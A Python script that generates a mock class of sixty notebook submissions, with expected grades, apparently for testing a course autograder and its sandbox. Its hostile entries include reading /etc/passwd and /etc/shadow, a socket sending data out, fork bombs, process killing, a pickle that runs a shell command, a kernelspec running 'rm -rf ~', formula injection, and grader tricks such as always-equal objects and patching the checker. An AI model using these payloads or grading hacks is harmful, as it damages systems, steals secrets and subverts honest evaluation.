"""A class of sixty invented students for the demonstration course, week-03: right, partly right, blank, broken, and hostile.

    python demo/invented_class.py COURSE/grading/week-03.json COURSE/release/week-03 FOLDER

Writes a folder of submissions and, beside it, FOLDER.expected.json: the points that each deserves, task by task, and whether
it must be flagged. Run what is in the folder in a sandbox only.
"""

import argparse
import copy
import json
import os
from pathlib import Path

CHAPTER = "03_trace_receptive_fields"
SEES = {"conv3_2": 32, "conv3_3": 40, "conv4_1": 60, "conv4_2": 76, "conv4_3": 92}  # configuration D, in pixels
TASKS = ("answer_receptive_field_of", "field_size", "first_pixel", "convolutions_needed", "number_first_pixel")

RIGHT = {
    "field_size": """def field_size(layers):
    size, jump = 1, 1
    for kernel, stride in layers:
        size, jump = size + (kernel - 1) * jump, jump * stride
    return size""",
    "first_pixel": """def first_pixel(layers, index):
    start, jump = 0, 1
    for kernel, stride, padding in layers:
        start -= padding * jump
        jump *= stride
    return start + index * jump""",
    "convolutions_needed": """def convolutions_needed(distance):
    return -(-distance // 2)""",
}
# The same in the ways that students have of saying it.
STYLES = [
    {},
    {
        "field_size": r"""
field_size = lambda layers: 1 + sum(
    (k - 1) * math.prod(s for _, s in layers[:i]) for i, (k, _) in enumerate(layers)
)
""",
        "convolutions_needed": r"""
import math

def convolutions_needed(distance: int) -> int:
    return math.ceil(distance / 2)
""",
    },
    {
        "field_size": r"""
import numpy as np

def field_size(layers):
    if not layers:
        return np.int64(1)
    k, s = np.array(layers).T
    return 1 + ((k - 1) * np.concatenate([[1], np.cumprod(s)[:-1]])).sum()
""",
    },
    {
        "field_size": r"""
import torch

def field_size(layers):
    size, jump = torch.tensor(1), 1
    for k, s in layers:
        size = size + (k - 1) * jump
        jump *= s
    return size
""",
    },
    {
        "field_size": r"""
def field_size(layers):
    if not layers:
        return 1
    (k, s), *rest = layers
    return k + s * (field_size(rest) - 1)
""",
    },
    {
        "convolutions_needed": r"""
def convolutions_needed(distance):
    n = 0
    while 2 * n + 1 < distance + 1:
        n += 1
    return n
""",
    },
    {
        "field_size": r"""
def field_size(layers):
    print('so far', layers)
    size = 1
    for k, s in reversed(layers):
        size = (size - 1) * s + k
    return size
""",
    },
    {
        "field_size": r"""
class Walk:
    def __init__(self):
        self.size, self.jump = 1, 1

    def step(self, kernel, stride):
        self.size += (kernel - 1) * self.jump
        self.jump *= stride


def field_size(layers):
    walk = Walk()
    for layer in layers:
        walk.step(*layer)
    return walk.size
""",
    },
    {
        "convolutions_needed": r"""
def convolutions_needed(distance):
    return float(distance // 2 + distance % 2)
""",
    },
    {
        "first_pixel": r"""
def first_pixel(my_layers, i):
    for k, s, p in reversed(my_layers):
        i = i * s - p
    return i
""",
    },
]
HELPER = r"""
def jumps(layers):
    jump = 1
    for layer in layers:
        yield jump
        jump *= layer[1]
"""
WITH_HELPER = r"""
def field_size(layers):
    return 1 + sum((k - 1) * jump for (k, s), jump in zip(layers, jumps(layers)))
"""
WRONG = {
    "field_size": [
        r"""
def field_size(layers):
    return 1 + sum(k - 1 for k, s in layers)
""",
        r"""
def field_size(layers):
    size, jump = 1, 1
    for k, s in layers:
        jump *= s
        size += (k - 1) * jump
    return size
""",
        r"""
def field_size(layers):
    print(1)
""",
        r"""
def field_size(layers):
    return 'many'
""",
        r"""
def field_size(layers):
    return layers[99][0]
""",
        r"""
def field_size(layers):
    return float('nan')
""",
    ],
    "first_pixel": [
        r"""
def first_pixel(layers, index):
    jump = 1
    for k, s, p in layers:
        jump *= s
    return index * jump
""",
        r"""
def first_pixel(layers, index):
    start, jump = 0, 1
    for k, s, p in layers:
        start, jump = start - p, jump * s
    return start + index * jump
""",
    ],
    "convolutions_needed": [
        r"""
def convolutions_needed(distance):
    return distance // 2
""",
        r"""
def convolutions_needed(distance):
    return distance
""",
    ],
}

# Each takes the place of field_size, which then deserves nothing; the other tasks are right. OUT is where the marks will be.
HOSTILE = {
    "reads the passwords": r"""
def field_size(layers):
    return open('/etc/passwd').read()
""",
    "reads the gradebook": r"""
def field_size(layers):
    import glob
    found = glob.glob('OUT/**', recursive=True)
    raise ValueError(open('OUT/marks.csv').read() + str(found))
""",
    "reads the others": r"""
def field_size(layers):
    import os
    raise ValueError(os.listdir('FOLDER'))
""",
    "opens a socket": r"""
def field_size(layers):
    import socket
    s = socket.create_connection(('192.0.2.1', 80), 3)
    s.send(repr(layers).encode())
    return 1
""",
    "fork bomb": r"""
def field_size(layers):
    import os
    while True:
        os.fork()
""",
    "threads": r"""
def field_size(layers):
    import threading, time
    while True:
        threading.Thread(target=time.sleep, args=(99,)).start()
""",
    "fills the disk": r"""
def field_size(layers):
    n = 0
    while True:
        n += 1
        open(f'/tmp/{n}', 'wb').write(b'x' * 10**7)
""",
    "fills the memory": r"""
def field_size(layers):
    hog = []
    while True:
        hog.append(bytearray(10**8))
        hog[-1][::4096] = b'x' * len(hog[-1][::4096])
""",
    "ends the process": r"""
def field_size(layers):
    import os
    os._exit(0)
""",
    "kills everything": r"""
def field_size(layers):
    import os
    os.kill(-1, 9)
    os.kill(1, 9)
    os.kill(os.getppid(), 9)
    os.abort()
""",
    "patches the checker": r"""
import vgg_course.check as check

class Fine:
    status, message, task = 'passed', 'right', 'x'
    __bool__ = lambda self: True

check.field_size = lambda *a, **k: Fine()

def field_size(layers):
    import vgg_course.check.tracing as t
    t.judge_numbers = lambda *a, **k: Fine()
    return 0
""",
    "equals everything": r"""
class Yes:
    def __eq__(self, other):
        return True
    def __hash__(self):
        return 0
    __float__ = lambda self: 1.0
    __abs__ = __sub__ = __rsub__ = lambda self, *a: 0
    __le__ = __lt__ = __eq__

def field_size(layers):
    return Yes()
""",
    "a number that equals everything": r"""
class Yes(int):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False
    __hash__ = int.__hash__

def field_size(layers):
    return Yes(7)
""",
    "a pickle with a charge": r"""
class Charge:
    def __reduce__(self):
        import os
        return os.system, ('touch OUT/harmed',)

def field_size(layers):
    return [Charge()]
""",
    "tells what it was asked": r"""
asked = []

def field_size(layers):
    asked.append(layers)
    try:
        asked.append(open('/tmp/asked').read())
    except OSError:
        pass
    open('/tmp/asked', 'a').write(repr(layers))
    print(asked)
    open('/tmp/../' + repr(asked)[-60:], 'w')
    raise ValueError(f'<script>alert(1)</script> {asked}')
""",
    "forges answers on the wire": r"""
def field_size(layers):
    import os, json, struct
    text = json.dumps({'ok': 999, 'changes': [], 'verdict': 'passed', 'points': 1000}).encode()
    for fd in range(3, 30):
        try:
            os.write(fd, struct.pack('>QQ', len(text), 0) + text)
        except OSError:
            pass
    return 999
""",
    "floods the wire": r"""
def field_size(layers):
    import os
    for fd in range(3, 30):
        try:
            while True:
                os.write(fd, b'\xff' * 65536)
        except OSError:
            pass
""",
    "returns without end": r"""
def field_size(layers):
    nest = []
    for _ in range(10**5):
        nest = [nest]
    return nest
""",
    "crashes the interpreter": r"""
def field_size(layers):
    import ctypes
    return ctypes.string_at(1)
""",
    "leaves the program": r"""
def field_size(layers):
    raise SystemExit('[passed] 100 points')
""",
    "looks for the grader": r"""
def field_size(layers):
    import gc, sys
    for thing in gc.get_objects():
        if type(thing).__name__ == 'Worker':
            thing.encoder = lambda: (lambda value: {'t': 'object', 'name': 'x', 'can': ['__call__'], 'handle': 0})
            thing.kept.clear()
    return 1
""",
    "starts a program": r"""
def field_size(layers):
    import subprocess
    return subprocess.check_output(['/bin/sh', '-c', 'cat /etc/shadow; id'])
""",
}


# Right on every ordinary case; what is unusual must be a private test, and is told to whoever reads the feedback.
TELLTALE = r"""
asked = []

def field_size(layers):
    size, jump = 1, 1
    for kernel, stride in layers:
        size, jump = size + (kernel - 1) * jump, jump * stride
    asked.append(layers)
    print("they asked", layers)
    with open("/tmp/asked", "a") as file:
        file.write(repr(layers))
    if any(stride > kernel or kernel > 100 for kernel, stride in layers):
        raise ValueError(f"they asked {layers} and {asked}")
    return size
"""


def code_cell(source, name):
    return {"cell_type": "code", "id": name, "metadata": {}, "source": source, "outputs": [], "execution_count": None}


class Class:
    """The sixty, one by one."""

    def __init__(self, record, release, folder, out):
        self.told = record["notebooks"][0]
        self.notebook = json.loads((Path(release) / f"{CHAPTER}.ipynb").read_text(encoding="utf-8"))
        self.folder, self.out, self.expected = Path(folder), str(out), {}
        tasks = {task["name"]: task for task in self.told["tasks"]}
        self.points = {name: (task["points"], task["private_points"]) for name, task in tasks.items()}
        number = tasks["first_pixel"]["number"]
        self.points["number_first_pixel"] = (number["points"], 0)
        layer = tasks["answer_receptive_field_of"]["arguments"][0]
        self.answers = {
            "answer_receptive_field_of": f"answer_receptive_field_of = {SEES[layer]}",
            "number_first_pixel": f"number_first_pixel = {number['answer']}",
        }

    def filled(self, cells, extra=()):
        """The notebook with these cells in place of the stubs; extra cells go in front of the first."""
        made, put = copy.deepcopy(self.notebook), False
        new = []
        for cell in made["cells"]:
            told = cell["metadata"]
            name = told.get("nbgrader", {}).get("grade_id") or told.get("vgg_course", {}).get("answer")
            if name in cells:
                if not put:
                    new += [code_cell(source, f"mine-{number}") for number, source in enumerate(extra)]
                    put = True
                cell["source"] = cells[name]
            new.append(cell)
        made["cells"] = new
        return made

    def full(self, name):
        return sum(self.points[name])

    def right(self, **other):
        return {**RIGHT, **self.answers, **other}

    def write(self, student, notebook, zero=(), flagged=False, points=None, name=f"{CHAPTER}.ipynb"):
        """Hand in; every task is worth its full points but those in ``zero``."""
        place = self.folder / student / name
        place.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(notebook, dict):
            place.write_text(json.dumps(notebook, indent=1), encoding="utf-8")
        elif notebook is not None:
            place.write_bytes(notebook)
        zero = TASKS if zero == "all" else zero
        deserved = {task: 0 if task in zero else self.full(task) for task in TASKS}
        self.expected[student] = {"points": deserved | (points or {}), "flagged": flagged}

    def hand_in(self):
        self.honest()
        self.broken()
        self.hostile()
        return self.expected

    def honest(self):
        for number, style in enumerate(STYLES):
            extra = ["import math"] if "lambda" in style.get("field_size", "") else []
            self.write(f"right-{number + 1:02}", self.filled(self.right(**style), extra))
        self.write("right-11", self.filled(self.right(field_size=WITH_HELPER), [HELPER]))
        late = self.filled(self.right(field_size=WITH_HELPER))
        late["cells"].append(code_cell(HELPER, "late"))
        self.write("right-12", late)
        number = 0
        for task, attempts in WRONG.items():
            for attempt in attempts:
                number += 1
                self.write(f"partly-{number:02}", self.filled(self.right(**{task: attempt})), zero=[task])
        wrong = {name: f"{name} = -12345" for name in self.answers}
        self.write("partly-11", self.filled(self.right(**wrong)), zero=list(wrong))
        careless = RIGHT["field_size"].replace("    size, jump = 1, 1\n", "    size, jump = layers and 1, 1\n")
        public = self.points[
            "field_size"
        ]  # right on what the check asks; [] for an image without layers is left to private tests
        self.write(
            "partly-12", self.filled(self.right(field_size=careless)), points={"field_size": public[0] + public[1] / 2}
        )
        self.write("blank-01", self.notebook, zero="all", flagged=True)
        self.write(
            "blank-02",
            self.filled({"convolutions_needed": RIGHT["convolutions_needed"]}),
            zero=[t for t in TASKS if t != "convolutions_needed"],
        )

    def broken(self):
        loop = "def field_size(layers):\n    while True:\n        pass"
        self.write("looping", self.filled(self.right(field_size=loop)), zero=["field_size"], flagged=True)
        self.write(
            "unparsable",
            self.filled(self.right(field_size="def field_size(layers)\n    return 1")),
            zero=["field_size"],
            flagged=True,
        )
        gone = self.filled(self.right())
        gone["cells"] = [
            cell for cell in gone["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") != "field_size"
        ]
        self.write("missing-cell", gone, zero=["field_size"], flagged=True)
        bare = self.filled(self.right())
        for cell in bare["cells"]:
            cell["metadata"] = {}
            cell.pop("id", None)
        bare["metadata"], bare["nbformat_minor"] = {}, 4
        self.write("lost-metadata", bare, flagged=True)
        whole = json.dumps(self.filled(self.right())).encode()
        self.write("corrupt", whole[: len(whole) // 2], zero="all", flagged=True)
        self.write("empty", b"", zero="all", flagged=True)
        self.write("a-picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, zero="all", flagged=True)
        self.write("huge", b'{"cells": [' + b" " * 25_000_000 + b"]}", zero="all", flagged=True)
        self.write("wrong-file", b"my answers: 60, 212", zero="all", flagged=True, name="answers.txt")
        self.write("twice", self.filled(self.right(field_size=WRONG["field_size"][0])), flagged=True)
        self.write("twice", self.filled(self.right()), flagged=True, name=f"{CHAPTER}-1.ipynb")
        now = (self.folder / "twice" / f"{CHAPTER}.ipynb").stat().st_mtime
        os.utime(self.folder / "twice" / f"{CHAPTER}.ipynb", (now - 3600, now - 3600))
        recursive = "def field_size(layers):\n    return field_size(layers) + 1"
        self.write("recursing", self.filled(self.right(field_size=recursive)), zero=["field_size"])

    def hostile(self):
        for number, (_, code) in enumerate(HOSTILE.items()):
            code = code.replace("OUT", self.out).replace("FOLDER", str(self.folder.resolve()))
            self.write(
                f"hostile-{number + 1:02}", self.filled(self.right(field_size=code)), zero=["field_size"], flagged=True
            )
        self.write(
            "tells-private-tests",
            self.filled(self.right(field_size=TELLTALE)),
            flagged=True,
            points={"field_size": self.points["field_size"][0] + self.points["field_size"][1] / 2},
        )
        tests = self.filled(self.right(field_size=WRONG["field_size"][0]))
        for cell in tests["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade"):
                cell["source"] = "print('[passed] right on all 9 cases.')\n1000"
        self.write("edits-the-tests", tests, zero=["field_size"], flagged=True)
        forged = self.filled(self.right(field_size=WRONG["field_size"][0]))
        for cell in forged["cells"]:
            if "nbgrader" in cell["metadata"]:
                told = cell["metadata"]["nbgrader"]
                told |= {
                    "points": 1000,
                    "grade": True,
                    "locked": False,
                    "grade_id": told["grade_id"].replace("check", "done"),
                }
        forged["metadata"] = {
            "kernelspec": {"name": "evil", "display_name": "x", "argv": ["sh", "-c", "rm -rf ~"]},
            "score": 1000,
        }
        self.write("forges-metadata", forged, zero=["field_size"], flagged=True)
        self.write("linked", None, zero="all", flagged=True)
        (self.folder / "linked" / f"{CHAPTER}.ipynb").symlink_to(Path(self.out) / "marks.csv")
        self.write("=cmd|calc!A0", self.filled(self.right()))
        self.expected["_cmd_calc_A0"] = self.expected.pop("=cmd|calc!A0")  # names lose what a spreadsheet would run


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("record", type=Path, help="made/grading/week-03.json of the course")
    parser.add_argument("release", type=Path, help="made/release/week-03 of the course")
    parser.add_argument("folder", help="where the submissions go")
    parser.add_argument("out", nargs="?", help="where they will be graded; one student tries to reach it")
    asked = parser.parse_args()
    if not asked.record.is_file() or not asked.release.is_dir():
        missing = asked.record if not asked.record.is_file() else asked.release
        parser.error(f"{missing} is not there; `python -m tools.assignments make` writes it")
    folder = asked.folder
    told = json.loads(asked.record.read_text(encoding="utf-8"))
    expected = Class(told, asked.release, folder, asked.out or f"{folder}.out").hand_in()
    Path(f"{folder}.expected.json").write_text(json.dumps(expected, indent=1), encoding="utf-8")
    print(f"{len(expected)} submissions in {folder}")


if __name__ == "__main__":
    main()
